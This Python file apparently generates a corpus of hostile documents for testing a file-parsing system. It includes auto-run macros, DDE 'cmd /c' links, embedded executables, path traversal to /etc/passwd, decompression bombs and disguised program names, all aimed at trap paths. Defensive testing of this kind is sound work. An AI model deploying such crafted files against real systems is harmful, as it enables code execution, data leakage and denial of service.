"""Files made to do harm, of formats that hide others: OLE, workbooks, letters, OpenDocument, RTF, OFD, archives, texts."""

from __future__ import annotations

import base64
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterator

from benchmarks.hostile_files import PACKAGES, Hostile, Make, Traps, with_part
from tests.index.file_makers import docx_file, mail_file, ofd_file, pdf_file, xlsx_file, zip_file

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def formats(traps: Traps) -> Iterator[Hostile]:
    """Yield every file; equal traps give equal files."""
    yield from _compound(traps)
    yield from _workbooks(traps)
    yield from _words(traps)
    yield from _mail(traps)
    yield from _open_documents(traps)
    yield from _rtf(traps)
    yield from _ofd(traps)
    yield from _archives()
    yield from _texts()
    yield from _programs()


# -- OLE -----------------------------------------------------------------------------------------


def compound(streams: dict[str, bytes], *, fat: int = 1, difat: int = 0, loop: bool = False) -> bytes:
    """A compound file with these streams; ``fat`` and ``difat`` are what its head says, ``loop`` ties the chain."""
    sectors: list[bytes] = []
    table: list[int] = []
    entries = [_entry("Root Entry", 5, 0xFFFFFFFE, 0, 1)]
    for number, (name, data) in enumerate(streams.items(), 1):
        blocks = [data[at : at + 512].ljust(512, b"\0") for at in range(0, max(len(data), 4096), 512)]
        start = len(sectors)
        sectors += blocks
        table += [*range(start + 1, start + len(blocks)), start if loop else 0xFFFFFFFE]
        right = number + 1 if number < len(streams) else 0xFFFFFFFF
        entries.append(
            _entry(name, 2, start, 2**31 - 1 if loop else len(data.ljust(4096)), right, child=False)
        )
    listed = b"".join(entries).ljust(-(-len(entries) // 4) * 512, b"\0")
    root = len(sectors)
    sectors += [listed[at : at + 512] for at in range(0, len(listed), 512)]
    table += [*range(root + 1, len(sectors)), 0xFFFFFFFE]
    place = len(sectors)
    table.append(0xFFFFFFFD)
    sectors.append(struct.pack("<128I", *(table[:128] + [0xFFFFFFFF] * (128 - len(table[:128])))))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    head += struct.pack("<IIIIIIIII", 0, fat, root, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, difat)
    return (head + struct.pack("<I", place)).ljust(512, b"\xff") + b"".join(sectors)


def _entry(name: str, kind: int, start: int, size: int, link: int, *, child: bool = True) -> bytes:
    written = name.encode("utf-16-le")[:62]
    links = (0xFFFFFFFF, 0xFFFFFFFF, link) if child else (0xFFFFFFFF, link, 0xFFFFFFFF)
    head = written.ljust(64, b"\0") + struct.pack("<HBB3I", len(written) + 2, kind, 1, *links)
    return head + bytes(36) + struct.pack("<IQ", start, size)


def _biff(*records: tuple[int, bytes]) -> bytes:
    start = (0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 6))
    return b"".join(
        struct.pack("<HH", kind, len(body)) + body for kind, body in (start, *records, (0x0A, b""))
    )


def _compound(traps: Traps) -> Iterator[Hostile]:
    sheet = (0x85, struct.pack("<IBBBB", 60, 0, 0, 1, 0) + b"a")
    books: dict[str, bytes] = {
        "字串数太大": _biff(sheet, (0xFC, struct.pack("<II", 2**32 - 1, 2**32 - 1))),
        "字串太长": _biff(sheet, (0xFC, struct.pack("<IIHB", 1, 1, 0xFFFF, 8) + b"\xff\xff")),
        "范围太大": _biff(sheet, (0x200, struct.pack("<IIHHH", 0, 2**32 - 1, 0, 0xFFFF, 0))),
        "远格": _biff(sheet, (0x203, struct.pack("<HHHd", 0xFFFF, 0xFFFF, 0, 1.0))),
        "列反着": _biff(sheet, (0xBE, struct.pack("<HHHH", 1, 0xFFFF, 0, 1))),
        "记录长谎报": _biff(sheet)[:-4] + struct.pack("<HH", 0x203, 0xFFFF),
        "加密的": _biff((0x2F, bytes(54)), sheet),
        "代码页": _biff((0x42, b"\xff\xff"), sheet), "很多公式": _biff(sheet, *((0x06, bytes(20) + struct.pack("<H", 5) + b"\x44" * 5),) * 5000),
        "表在文件外": _biff((0x85, struct.pack("<IBBBB", 2**32 - 1, 0, 0, 1, 0) + b"a")),
        "宏表自己跑": _biff((0x85, struct.pack("<IBBBB", 60, 2, 1, 9, 0) + b"Auto_Open"), (0x18, bytes(3) + b"\x01" + bytes(10))),
        "合并太多": _biff(sheet, *((0xE5, struct.pack("<H4H", 1, 0, 0xFFFF, 0, 0xFF)),) * 3000),
    }  # fmt: skip
    for what, book in books.items():
        yield Hostile(f"XLS:{what}", f"{what}.xls", lambda b=book: compound({"Workbook": b}))
    stream = _biff(sheet)
    for what, make in {
        "链绕圈": lambda: compound({"Workbook": stream}, loop=True), "FAT 数太大": lambda: compound({"Workbook": stream}, fat=2**32 - 1),
        "DIFAT 数太大": lambda: compound({"Workbook": stream}, difat=2**32 - 1), "只有头": lambda: compound({"Workbook": stream})[:512],
        "扇区大小": lambda: compound({"Workbook": stream}).replace(b"\xfe\xff\x09\0", b"\xfe\xff\x1e\0", 1),
    }.items():  # fmt: skip
        yield Hostile(f"OLE:{what}", f"{what}.xls", make)
    package = (
        b"\x02\0calc.exe\0C:\\calc.exe\0\0\0\x03\0"
        + struct.pack("<I", 9)
        + b"calc.exe\0"
        + b"MZ"
        + bytes(400)
    )
    for name, streams in {
        "对象包.doc": {"WordDocument": b"\xec\xa5\xc1\0" + bytes(900), "1Table": bytes(900), "\1Ole10Native": package},
        "公式编辑器.doc": {"WordDocument": b"\xec\xa5\xc1\0" + bytes(900), "Equation Native": b"\x1c\0\0\0\x02\0" + b"\x41" * 700},
        "宏.doc": {"WordDocument": b"\xec\xa5\xc1\0" + bytes(900), "VBA": f'Sub AutoOpen()\nShell "touch {traps.touched}"\nEnd Sub'.encode()},
        "对象包.ppt": {"PowerPoint Document": bytes(900), "\1Ole10Native": package}, "空的.msg": {"__properties_version1.0": bytes(64)},
        "文字.wps": {"WordDocument": b"\xec\xa5\xd9\0" + b"\xff" * 1400, "0Table": b"\xff" * 900}, "演示.dps": {"PowerPoint Document": b"\x0f\0\xe8\x03\xff\xff\xff\xff" * 90},
        "加密.xlsx": {"EncryptedPackage": struct.pack("<Q", 2**63) + bytes(900), "EncryptionInfo": b"\4\0\4\0@\0\0\0<!DOCTYPE a [<!ENTITY x 'y'>]>"},
    }.items():  # fmt: skip
        yield Hostile("OLE:流", name, lambda s=streams: compound(s))


# -- workbooks, Word -----------------------------------------------------------------------------


def _sheet(inside: str) -> bytes:
    return with_part(xlsx_file(), "xl/worksheets/sheet1.xml", f"<worksheet {_S}>{inside}</worksheet>")


def _styles(code: str) -> bytes:
    styles = f'<styleSheet {_S}><numFmts><numFmt numFmtId="164" formatCode="{code}"/></numFmts><fonts><font/></fonts><fills><fill/></fills><borders><border/></borders><cellStyleXfs><xf/></cellStyleXfs><cellXfs><xf numFmtId="164"/></cellXfs></styleSheet>'
    return with_part(
        _sheet('<sheetData><row><c s="0"><v>1</v></c></row></sheetData>'), "xl/styles.xml", styles
    )


def _xlsb(records: bytes) -> bytes:
    rels = _RELS.format(
        f'<Relationship Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.bin"/>'
    )
    name = "a".encode("utf-16-le")
    bundle = struct.pack("<III", 0, 1, 4) + "rId1".encode("utf-16-le") + struct.pack("<I", 1) + name
    book = b"\x83\x01\0\x8f\x01\0\x9c\x01" + bytes([len(bundle)]) + bundle + b"\x90\x01\0\x84\x01\0"
    return zip_file({"xl/workbook.bin": book, "xl/_rels/workbook.bin.rels": rels, "xl/worksheets/sheet1.bin": records})  # fmt: skip


def _workbooks(traps: Traps) -> Iterator[Hostile]:
    wide = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 60_000))
    names = "".join(f'<definedName name="n{n}">s!$A$1:$XFD$1048576</definedName>' for n in range(60_000))
    book = f'<workbook {_S} xmlns:r="{_OFFICE}"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets><definedNames>{names}</definedNames></workbook>'
    shared = '<sheetData><row><c r="A1"><f t="shared" ref="A1:XFD1048576" si="0">A1+1</f><v>1</v></c><c r="B1"><f t="array" ref="A1:XFD1048576">A1</f></c></row></sheetData>'
    connection = f'<connections {_S}><connection id="1" type="4" refreshOnLoad="1"><webPr url="{traps.url}/web"/></connection><connection id="2" type="1"><dbPr connection="file://{traps.secret}" command="SELECT 1"/></connection></connections>'
    dde = f'<externalLink {_S}><ddeLink ddeService="cmd" ddeTopic="/c touch {traps.touched}"><ddeItems><ddeItem name="A1" ole="1" advise="1"/></ddeItems></ddeLink></externalLink>'
    kinds = '<c t="d"><v>9999-99-99T99</v></c><c t="b"><v>x</v></c><c t="e"><v>#</v></c><c t="zz"><v>1</v></c><c r="A0" t="n"><v>1e999</v></c><c t="n"><v>nan</v></c>'
    start = b"\x81\x01\0\x94\x01\x10"
    for what, name, make in (
        ("每行一格在最右", "最右.xlsx", lambda: _sheet(f"<sheetData>{wide}</sheetData>")), ("六万个名称", "名称.xlsx", lambda: with_part(xlsx_file(), "xl/workbook.xml", book)),
        ("公式用到全表", "全表.xlsx", lambda: _sheet(shared)), ("网上的连接", "连接.xlsx", lambda: with_part(xlsx_file(), "xl/connections.xml", connection)),
        ("DDE 链接", "DDE.xlsx", lambda: with_part(xlsx_file(), "xl/externalLinks/externalLink1.xml", dde)), ("不像样的值", "值.xlsx", lambda: _sheet(f"<sheetData><row>{kinds}</row></sheetData>")),
        ("格式里的方括号", "格式一.xlsx", lambda: _styles("[" * 300_000)), ("格式里的引号", "格式二.xlsx", lambda: _styles("&quot;" * 300_000)), ("格式里的反斜线", "格式三.xlsx", lambda: _styles("\\y" * 300_000)),
        ("字串数谎报", "数谎报.xlsx", lambda: with_part(xlsx_file(), "xl/sharedStrings.xml", f'<sst {_S} count="4294967295" uniqueCount="4294967295"><si><t>x</t></si></sst>')),
        ("批注十万条", "批注.xlsx", lambda: with_part(xlsx_file(), "xl/comments/comment9.xml", f"<comments {_S}><commentList>" + '<comment ref="A1"><text><t>x</t></text></comment>' * 100_000 + "</commentList></comments>")),
        ("XLSB 范围太大", "大.xlsb", lambda: _xlsb(start + struct.pack("<4I", 0, 1_048_575, 0, 16_383) + b"\x91\x01\0\x92\x01\0\x82\x01\0")), ("XLSB 长度", "长.xlsb", lambda: _xlsb(start + bytes(16) + b"\x91\x01\xff\xff\xff\x7f")),
        ("XLSB 远格", "远.xlsb", lambda: _xlsb(start + struct.pack("<4I", 0, 2**31, 0, 2**31) + b"\x91\x01\0\x00\x04" + struct.pack("<I", 2**31) + b"\x05\x10" + struct.pack("<IId", 2**31, 0, 1.0) + b"\x92\x01\0\x82\x01\0")),
    ):  # fmt: skip
        yield Hostile(f"表格:{what}", name, make)


def _words(traps: Traps) -> Iterator[Hostile]:
    def body(inside: str) -> Make:
        return lambda: with_part(docx_file(), "word/document.xml", f"<w:document {_W}><w:body>{inside}</w:body></w:document>")  # fmt: skip

    def linked(kind: str, target: str, content: bytes) -> Make:
        rel = _RELS.format(f'<Relationship Id="rId1" Type="{_OFFICE}/{kind}" Target="{target}"/>')
        return lambda: with_part(with_part(docx_file(), "word/_rels/document.xml.rels", rel), f"word/{target}", content)  # fmt: skip

    image = f'<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{_OFFICE}" r:link="rId1"/></w:drawing></w:r></w:p>'
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>'
        for n in range(20_000)
    )
    core = (
        "<a:core xmlns:a='urn:a' xmlns:dc='http://purl.org/dc/elements/1.1/'>"
        + "<dc:creator>甲乙</dc:creator>" * 150_000
        + "</a:core>"
    )
    custom = "<Properties xmlns='urn:p'>" + "".join(f"<property name='密级{n}'>机密★{n}年</property>" for n in range(100_000)) + "</Properties>"  # fmt: skip
    for what, name, make in (
        ("插进来的网页", "网页块.docx", linked("aFChunk", "chunk.html", f'<img src="{traps.url}/chunk"><iframe src="file://{traps.secret}">'.encode())), ("插进来的 RTF", "RTF块.docx", linked("aFChunk", "chunk.rtf", b"{\\rtf1{\\object\\objautlink\\objupdate}}")),
        ("插进来的信", "信块.docx", linked("aFChunk", "chunk.mht", b"Content-Type: text/html\r\n\r\n<script>x</script>")), ("图是链接", "图链.docx", body(image)), ("字套字", "套字.docx", body("<w:p><w:r>" + "<w:smartTag>" * 9_000 + "</w:smartTag>" * 9_000 + "</w:r></w:p>")),
        ("样式链两万层", "样式链.docx", lambda: with_part(docx_file(), "word/styles.xml", f"<w:styles {_W}>{styles}</w:styles>")), ("一格占十亿列", "占列.docx", body('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>')),
        ("两万节", "两万节.docx", body("<w:p><w:pPr><w:sectPr/></w:pPr></w:p>" * 20_000)), ("没有完的域", "域.docx", body('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO</w:instrText></w:r></w:p>' * 30_000)), ("页面是负", "负页.docx", body('<w:p/><w:sectPr><w:pgSz w:w="-5" w:h="x"/><w:pgMar w:top="1e9"/></w:sectPr>')),
        ("字号不是数", "字号.docx", body('<w:p><w:pPr><w:spacing w:line="NaN"/></w:pPr><w:r><w:rPr><w:sz w:val="∞"/></w:rPr><w:t>字</w:t></w:r></w:p>')), ("作者十五万", "作者.docx", lambda: with_part(docx_file(), "docProps/core.xml", core)), ("属性十万", "属性.docx", lambda: with_part(docx_file(), "docProps/custom.xml", custom)),
        ("图其实是程序", "图程序.docx", lambda: with_part(docx_file(), "word/media/a.png", b"%%!PS-Adobe-3.0 EPSF-3.0\n%%%%BoundingBox: 0 0 9 9\n(%b) (w) file closefile showpage\n" % traps.touched.encode() + b"% x\n" * 9_000)),
        ("编号绕圈", "编号.docx", lambda: with_part(docx_file(), "word/numbering.xml", f'<w:numbering {_W}><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="a"/><w:styleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>')),
        ("叫 docm 的", "宏.docm", lambda: with_part(docx_file(), "word/vbaProject.bin", compound({"VBA": b"Sub AutoOpen()"}))), ("自定义界面", "界面.docx", lambda: with_part(docx_file(), "customUI/customUI.xml", f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Shell" loadImage="{traps.url}"/>')),
    ):  # fmt: skip
        yield Hostile(f"Word:{what}", name, make)


# -- letters, OpenDocument, RTF, OFD -------------------------------------------------------------


def _mail(traps: Traps) -> Iterator[Hostile]:
    def head(lines: bytes, rest: bytes = b"x") -> Make:
        return lambda: b"Subject: x\r\n" + lines + b"\r\n\r\n" + rest

    tnef = struct.pack("<IHBIIH", 0x223E9F78, 1, 1, 0x00069003, 2**31 - 1, 0) + bytes(300)
    for what, make in {
        "winmail.dat": lambda: mail_file({"winmail.dat": tnef}), "参数号太大": head(b"Content-Type: text/plain; name*999999999999*=utf-8''x"), "名字编码往上": head(b"Content-Type: application/pdf; name*=utf-8''..%2F..%2Ftmp%2Fescaped-shenguan.pdf", pdf_file()),
        "punycode": head(b"Content-Type: text/html; charset=punycode", b"a-" + b"z" * 400_000), "idna": head(b"Content-Type: text/plain; charset=idna", b"a." * 300_000), "unicode_escape": head(b"Content-Type: text/plain; charset=unicode_escape", b"\\ud800\\N{BOM}\\x" * 9_000),
        "压缩当编码": head(b"Content-Type: text/plain; charset=zlib_codec", zlib.compress(bytes(200_000_000), 9)), "UTF-7": head(b"Content-Type: text/html; charset=utf-7", b"+ADw-script+AD4-" * 9_000), "分号": head(b"Content-Type: text/plain" + b";" * 300_000), "编码字": head(b"X: x\r\nTo: " + b"=?gb2312?b?zfi!?= " * 60_000),
        "空白的折行": head(b"X-A: x" + b"\r\n " * 300_000), "日期里的括号": head(b"Date: " + b"(" * 90_000 + b")" * 90_000), "边界很长": head(b'Content-Type: multipart/mixed; boundary="' + b"-" * 90_000 + b'"', (b"--" + b"-" * 90_000 + b"\r\n\r\nx\r\n") * 9),
        "边界是空": head(b'Content-Type: multipart/mixed; boundary=""', b"--\r\n" * 200_000), "边界是正则": head(b'Content-Type: multipart/mixed; boundary="(a+)+$"', b"--(a+)+$\r\n\r\n" + b"a" * 90_000), "引用编码": head(b"Content-Transfer-Encoding: quoted-printable", b"=" * 3_000_000),
        "uuencode 百万行": head(b"Content-Transfer-Encoding: x-uuencode", b"begin 644 a\n" + b"M" + b"`" * 60 + b"\n" + b"!!!\n" * 500_000), "只有边界": head(b"Content-Type: multipart/related; boundary=b", b"--b\r\nContent-Location: file:///etc/passwd\r\nContent-Type: text/html\r\n\r\n<img src=cid:x>\r\n--b--"),
        "地址嵌套": head(b"From: " + b"a:" * 90_000 + b";" * 90_000), "密件": head(b"Bcc: " + b"<" * 200_000 + b"\r\nCc: " + b'"\\' * 90_000), "BASE64 不像样": head(b"Content-Transfer-Encoding: base64", b"=A=" * 2_000_000),
    }.items():  # fmt: skip
        yield Hostile(f"邮件:{what}", f"{what}.eml", make)


def _open_documents(traps: Traps) -> Iterator[Hostile]:
    space = " ".join(
        f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"'
        for n in ("office", "text", "table", "script", "form")
    )
    space += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    for what, inside in {
        "外面的一节": f'<text:section text:name="a"><text:section-source xlink:href="file://{traps.secret}"/></text:section><text:p>字</text:p>', "外面的图": f'<text:p><draw:frame><draw:image xlink:href="{traps.url}/odf"/></draw:frame>字</text:p>',
        "事件": f'<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.x?language=Basic"/></office:event-listeners><text:p>touch {traps.touched}</text:p>', "DDE": f'<text:dde-connection-decls><text:dde-connection-decl office:dde-application="soffice" office:dde-topic="{traps.secret}" office:dde-item="x"/></text:dde-connection-decls><text:p>字</text:p>',
        "表单": f'<office:forms form:automatic-focus="true"><form:form xlink:href="{traps.url}/submit" form:method="post"/></office:forms><text:p>字</text:p>', "空格很多": '<text:p><text:s text:c="2000000000"/></text:p>' * 9, "套九千层": "<text:section>" * 9_000 + "<text:p>字</text:p>" + "</text:section>" * 9_000,
        "字套字": "<text:p>" + "<text:span>" * 5_000 + "字" + "</text:span>" * 5_000 + "</text:p>", "对象": f'<text:p><draw:frame><draw:object-ole xlink:href="file://{traps.secret}"/><draw:plugin xlink:href="{traps.url}/p"/></draw:frame>字</text:p>',
    }.items():  # fmt: skip
        content = f"<office:document-content {space}><office:body><office:text>{inside}</office:text></office:body></office:document-content>"
        for kind in ("odt", "odp"):
            yield Hostile(f"ODF:{what}", f"{what}.{kind}", lambda k=kind, c=content: with_part(PACKAGES[k][0](), "content.xml", c))  # fmt: skip
    macro = f'<!DOCTYPE script:module><script:module xmlns:script="urn:s">Sub Main\nShell("touch {traps.touched}")\nEnd Sub</script:module>'
    yield Hostile(
        "ODF:宏", "宏.odt", lambda: with_part(PACKAGES["odt"][0](), "Basic/Standard/Module1.xml", macro)
    )


def _rtf(traps: Traps) -> Iterator[Hostile]:
    native = (
        struct.pack("<III", 0x501, 2, 8)
        + b"Package\0"
        + bytes(8)
        + struct.pack("<I", 40)
        + b"\2\0a.exe\0"
        + bytes(40)
    )
    for what, body in {
        "对象数据": "{\\object\\objemb\\objupdate{\\*\\objdata " + native.hex() + "}}", "文件名往上": "{\\object{\\*\\objname ../../tmp/escaped-shenguan.txt}{\\*\\objdata 00}}",
        "插进来的文件": f'{{\\field{{\\*\\fldinst INCLUDETEXT "{traps.secret}"}}}}', "字符号": "\\u-99999999999 ?" * 9_000 + "\\uc1000000\\u20013 x", "图是数": "{\\pict\\wmetafile8\\picw2147483647\\pich2147483647 0100}",
    }.items():  # fmt: skip
        for ending in ("rtf", "doc"):
            yield Hostile(
                f"RTF:{what}", f"{what}.{ending}", lambda b=body: ("{\\rtf1\\ansi x " + b + "}").encode()
            )


def _ofd(traps: Traps) -> Iterator[Hostile]:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'

    def document(inside: str) -> Make:
        return lambda: with_part(ofd_file([["字"]]), "Doc_0/Document.xml", f"<ofd:Document {space}>{inside}</ofd:Document>")  # fmt: skip

    def root(place: str) -> Make:
        return lambda: with_part(ofd_file([["字"]]), "OFD.xml", f"<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>{place}</ofd:DocRoot></ofd:DocBody></ofd:OFD>")  # fmt: skip

    page = '<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/>'
    for what, make in {
        "一页用十万次": document("<ofd:Pages>" + page * 100_000 + "</ofd:Pages>"), "页是自己": document('<ofd:Pages><ofd:Page ID="1" BaseLoc="Document.xml"/></ofd:Pages>'), "页在外面": document(f'<ofd:Pages><ofd:Page ID="1" BaseLoc="../../../../{traps.secret}"/></ofd:Pages>'),
        "文件在外面": root(f"file://{traps.secret}"), "根是自己": root("OFD.xml"), "根往上": root("../../../../../../etc/passwd"), "附件往上": document(f"<ofd:Pages>{page}</ofd:Pages><ofd:Attachments>../../../..{traps.secret}</ofd:Attachments>"),
        "签名是程序": lambda: with_part(ofd_file([["字"]]), "Doc_0/Signs/Sign_0/Seal.esl", b"MZ" + bytes(900)), "动作": document(f'<ofd:Pages>{page}</ofd:Pages><ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="{traps.url}/ofd"/></ofd:Action></ofd:Actions>'),
        "位置不是数": lambda: with_part(ofd_file([["字"]]), "Doc_0/Pages/Page_0/Content.xml", f'<ofd:Page {space}><ofd:Content>' + '<ofd:TextObject Boundary="nan inf 1e999 x" Size="1e999"><ofd:TextCode X="nan" Y="inf" DeltaX="g 2000000000 1">字</ofd:TextCode></ofd:TextObject>' * 900 + "</ofd:Content></ofd:Page>"),
    }.items():  # fmt: skip
        yield Hostile(f"OFD:{what}", f"{what}.ofd", make)


# -- archives, texts, programs -------------------------------------------------------------------


def _packed(method: int, content: bytes, name: str = "word/document.xml") -> Make:
    def make() -> bytes:
        out = io.BytesIO(docx_file())
        with zipfile.ZipFile(out, "a", method) as archive:
            archive.writestr(f"{name}x.xml", content)
        return out.getvalue()

    return make


def _quoted(count: int) -> bytes:
    """Members whose compressed bytes hold the next member's head (overlapping, without two in one place)."""
    kernel = zlib.compress(bytes(9_000_000), 9)[2:-4]
    parts, directory = b"", b""
    for n in range(count):
        name = f"{n}.txt".encode()
        head = (
            struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(kernel), 9_000_000, len(name), 0)
            + name
        )
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(kernel) + 40 * (count - n), 9_000_000, len(name), 0, 0, 0, 0, 0, len(parts)) + name  # fmt: skip
        parts += head + b"\0" + struct.pack("<HH", len(head), len(head) ^ 0xFFFF)
    parts += kernel
    return (
        parts
        + directory
        + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(directory), len(parts), 0)
    )


def _archives() -> Iterator[Hostile]:
    bomb = bytes(300_000_000)
    two_faces = zip_file({"好.txt": "字"}).replace("好".encode(), b"../", 1)
    greedy = lzma.compress(bytes(900), format=lzma.FORMAT_ALONE)
    for what, name, make in (
        ("BZIP2 炸弹", "BZ2.docx", _packed(zipfile.ZIP_BZIP2, bomb)), ("LZMA 炸弹", "LZMA.docx", _packed(zipfile.ZIP_LZMA, bomb)), ("LZMA 字典太大", "字典.docx", lambda: _packed(zipfile.ZIP_LZMA, b"<a/>" * 900)().replace(b"\x5d\0\0\x80\0", b"\x5d\xff\xff\xff\xff")),
        ("引着下一个的头", "引着.zip", lambda: _quoted(250)), ("两处的名不一样", "两名.zip", lambda: two_faces), ("好几张盘", "几盘.zip", lambda: zip_file({"a.txt": "字"}).replace(b"PK\5\6\0\0\0\0", b"PK\5\6\5\0\5\0")),
        ("两个包接着", "接着.docx", lambda: docx_file("第一份") + docx_file("第二份")), ("只有尾", "尾.zip", lambda: b"PK\5\6" + bytes(18)), ("名字六万字节", "六万.zip", lambda: zip_file({"a" * 65_000 + f"{n}.txt": "字" for n in range(60)})),
        ("里面又是 LZMA", "又.zip", lambda: zip_file({"a.lzma": greedy, "b.xz": lzma.compress(bomb), "c.txt": "字"})), ("文件也是文件夹", "也是.docx", lambda: with_part(with_part(docx_file(), "word/document.xml/", ""), "word/document.xml/x", "字")),
    ):  # fmt: skip
        yield Hostile(f"压缩包:{what}", name, make)


TEXT_TRAPS = (
    "关于", "的函", "（", "〔2026〕", "第1号", "机密★", "有限公司", "附件：", "抄送：", " \t", "联系人：", "91430900MA4L", "9", "@a.", "http://", ".", "-", "《", "“", "年", "12月", "2026年3月5日", "一、", "\u3000", "★", "湘益",
    "a\u0301\u0316", "\u0301\u0316", "\ufdfa", "\u202e\u2066", "\u1100\u1161", "️\u200d", "\n", "1.", "%", "<", "&#", "{{", "\\", "$(",
)  # fmt: skip
"""What long texts are made of, so that whatever looks for something in them looks again and again."""


def _texts() -> Iterator[Hostile]:
    for number, unit in enumerate(TEXT_TRAPS):
        yield Hostile(
            "文字:一再重复", f"重复{number}.txt", lambda u=unit: (u * (1_500_000 // len(u))).encode()
        )
    long = "关于同意的函" * 200_000
    for what, data in {
        "UTF-16 无头": lambda: long.encode("utf-16-le"), "UTF-32": lambda: long.encode("utf-32"), "UTF-16 单个": lambda: b"\xff\xfe" + b"\x00\xd8" * 900_000, "HZ": lambda: b"~{" * 900_000, "ISO-2022": lambda: b"\x1b$B" * 900_000,
        "超长的 UTF-8": lambda: b"\xc0\xae\xc0\xae\xc0\xaf" * 300_000, "GB18030 四字节": lambda: b"\x84\x31\xa4\x37" * 400_000, "UTF-7": lambda: b"+" * 900_000, "BOM 很多": lambda: b"\xef\xbb\xbf" * 900_000, "终端": lambda: b"\x1b]0;x\x07\x1b[2J" * 200_000, "半个字": lambda: "字".encode("gb18030")[:1] * 900_001,
    }.items():  # fmt: skip
        yield Hostile(f"文字:{what}", f"{what}.txt", data)


PROGRAM_NAMES = (
    "a.bat.", "a.bat ", "a.cmd. .", "a.vbs::$DATA", "a.js\0.txt", "a.exe\u200b", "a.ＪＳ", "a.e\u200bxe", "a.\u202eexe", "a.hta.", "a.PS1 ", "a.cmd\u3000", "a．bat", "a․bat", "a.wsc", "a.iqy", "a.slk", "a.xll", "a.msc", "a.settingcontent-ms", "a.search-ms",
    "a.library-ms", "a.jnlp", "a.desktop", "a.command", "a.application", "a.appref-ms", "a.sct", "a.ws", "a.pyw", "a.vb", "a.udl", "a.rdp", "a.website", "a.diagcab", "a.ade", "a.mde", "a.hlp", "a.job", "a.ocx", "a.zsh", "a.csh", "a.phtml", "a.jsp", "a.aspx", "a.webloc",
)  # fmt: skip
"""Names under which a system runs a text, some as it tidies them: a point or a blank at the end is dropped."""


def _programs() -> Iterator[Hostile]:
    text = b"@echo off\r\ntouch /tmp/escaped-shenguan.txt\r\n" + base64.b64encode(b"x" * 60)
    for name in PROGRAM_NAMES:
        yield Hostile("名称:程序", name, lambda: text)
